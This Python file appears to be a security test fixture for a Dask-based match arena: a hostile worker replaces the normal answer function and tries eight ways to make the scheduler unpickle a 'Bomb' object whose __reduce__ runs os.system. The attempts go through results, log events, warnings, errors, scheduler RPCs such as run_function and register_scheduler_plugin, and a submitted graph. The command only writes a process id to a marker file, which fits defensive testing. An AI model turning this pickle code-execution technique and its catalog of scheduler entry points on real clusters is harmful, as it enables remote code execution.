"""What a hostile worker loads: it answers its first matches with whatever runs code where it is unpickled."""

import os
import pickle
from pathlib import Path

from arena_cluster import playing

honest = playing.honest = getattr(playing, "honest", playing.answer)  # Dask loads this file twice


class Bomb:
    """Runs a command where it is unpickled, which writes the id of that process into a file."""

    def __reduce__(self):
        return os.system, (f"echo $PPID >> {os.environ['BOMB']}",)


def result(worker):
    return Bomb()


def nonsense(worker):
    return b"\x93not an answer"


def error(worker):
    raise ValueError(Bomb())


def event(worker):
    from distributed.protocol.serialize import ToPickle

    worker.batched_stream.send({"op": "log-event", "topic": "arena-replays", "msg": ToPickle(Bomb())})
    return Bomb()


def live(worker):
    worker.log_event("arena-replays", pickle.dumps(Bomb()))
    worker.log_event("arena-replays", ["x", 0, "no bytes"])
    worker.log_event("arena-replays", [["x"], {}, pickle.dumps(Bomb())])
    raise ValueError(Bomb())


def warning(worker):
    worker.log_event("warn", {"message": pickle.dumps(Bomb()), "category": pickle.dumps(Bomb())})
    worker.log_event("print", {"args": ["PRINTED BY A WORKER"], "sep": "", "end": "", "file": 1, "flush": True})
    return Bomb()


def requests(worker):
    """Asks the scheduler to run code, in the ways that it offers, and to write a file."""
    import asyncio

    from distributed.protocol.serialize import ToPickle

    async def ask():
        function = pickle.dumps(os.system), pickle.dumps((f"echo $PPID >> {os.environ['BOMB']}",))
        for name, words in (
            ("run_function", {"function": function[0], "args": function[1]}),
            ("feed", {"function": function[0], "setup": function[0], "teardown": function[0], "interval": 1}),
            ("register_scheduler_plugin", {"plugin": ToPickle(Bomb()), "name": "x"}),
            ("dump_cluster_state_to_url", {"url": os.environ["BOMB"] + ".dump", "exclude": (), "format": "yaml"}),
            ("log_event", {"topic": "x", "msg": ToPickle(Bomb())}),
            ("identity", {"n_workers": ToPickle(Bomb())}),
        ):
            try:
                await asyncio.wait_for(getattr(worker.scheduler, name)(**words), 5)
            except Exception as refused:
                print(name, repr(refused)[:200], flush=True)

    asyncio.run_coroutine_threadsafe(ask(), worker.loop.asyncio_loop).result(60)
    return Bomb()


def graph(worker):
    """Joins as an organizer, and submits a graph that runs code where it is read."""
    from distributed import Client

    with Client(worker.scheduler.address, timeout="5s", set_as_default=False) as client:
        future = client.submit(print, Bomb(), pure=False)
        try:
            future.result(timeout=5)
        except Exception as refused:
            print(repr(refused)[:200], flush=True)
    return Bomb()


ATTACKS = (result, nonsense, error, live, warning, requests, graph, event)
"""The last one ends the worker's connection."""


def hostile(order, *archives):
    """Make the next attack, in a match that has seen none; when all are made, play."""
    from distributed import get_worker

    match_id = pickle.loads(order)[1].match_id
    attacked = Path(os.environ["BOMB"]).with_name("attacked")
    done = attacked.read_text().split() if attacked.exists() else []
    if not done:
        pickle.loads(pickle.dumps(Bomb()))  # it does go off: here
    if match_id in done or len(done) == 2 * len(ATTACKS):
        return honest(order, *archives)
    attack = ATTACKS[len(done) // 2]
    attacked.write_text(" ".join([*done, attack.__name__, match_id]))
    return attack(get_worker())


hostile.__module__, hostile.__qualname__ = playing.answer.__module__, "answer"
playing.answer = hostile
